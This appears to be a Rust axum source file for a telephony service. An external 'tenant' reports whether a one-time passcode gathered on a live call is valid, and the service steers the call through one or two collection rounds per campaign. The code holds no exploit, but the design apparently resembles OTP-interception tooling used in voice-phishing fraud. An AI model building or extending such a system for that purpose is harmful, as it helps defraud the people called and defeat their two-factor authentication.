//! Tenant OTP decisions steering the live call.

use crate::app::AppState;
use crate::call::{CallUpdate, GatherStage};
use axum::{
    extract::{Path, State},
    http::StatusCode,
    response::IntoResponse,
    routing::post,
    Json, Router,
};
use serde::Deserialize;
use serde_json::{json, Value};
use tracing::{info, warn};

pub fn router() -> Router<AppState> {
    Router::new().route("/otp/validate/{call_id}", post(validate))
}

#[derive(Debug, Deserialize)]
struct ValidateRequest {
    #[serde(rename = "isValid")]
    is_valid: bool,
}

async fn validate(
    State(state): State<AppState>,
    Path(call_id): Path<String>,
    Json(body): Json<ValidateRequest>,
) -> impl IntoResponse {
    let Some(call) = state.calls.get(&call_id) else {
        return (
            StatusCode::NOT_FOUND,
            Json(json!({"success": false, "error": format!("call {} not found", call_id)})),
        );
    };
    let Some(session) = state.registry.get(&call_id) else {
        return (
            StatusCode::NOT_FOUND,
            Json(json!({"success": false, "error": format!("channel {} not found", call_id)})),
        );
    };

    let two_gather = state.catalog.is_two_gather(&call.campaign);
    let second_stage = call.gather_stage == Some(GatherStage::Second);

    let (step, message): (&str, Value) = if body.is_valid {
        if two_gather && !second_stage {
            state.calls.update(
                &call_id,
                CallUpdate {
                    gather_stage: Some(GatherStage::Second),
                    ..Default::default()
                },
            );
            (
                "gather1",
                json!({"OtpValidation": "valid", "gatherStage": "second"}),
            )
        } else if two_gather {
            (
                "completed",
                json!({"OtpValidation": "valid", "gatherStage": "completed"}),
            )
        } else {
            let step = match call.selected_option.as_deref() {
                Some("1") => "completed_option1",
                Some("2") => "completed_option2",
                _ => "completed",
            };
            (
                step,
                json!({"OtpValidation": "valid", "selectedOption": call.selected_option}),
            )
        }
    } else if two_gather && !second_stage {
        // back to the first round
        state.calls.update(
            &call_id,
            CallUpdate {
                gather_stage: Some(GatherStage::First),
                ..Default::default()
            },
        );
        ("invalid", json!({"OtpValidation": "invalid"}))
    } else if two_gather {
        // second round retries in place
        ("gather1", json!({"OtpValidation": "invalid"}))
    } else {
        ("invalid", json!({"OtpValidation": "invalid"}))
    };

    info!(call_id, step, is_valid = body.is_valid, "otp decision");
    state.push.send(&call_id, message);

    let url = state.config.action_url(step);
    match session.set_action(&url, &[]).await {
        Ok(()) => (StatusCode::OK, Json(json!({"success": true}))),
        Err(e) => {
            warn!(call_id, "steering failed: {}", e);
            (
                StatusCode::INTERNAL_SERVER_ERROR,
                Json(json!({"success": false, "error": e.to_string()})),
            )
        }
    }
}
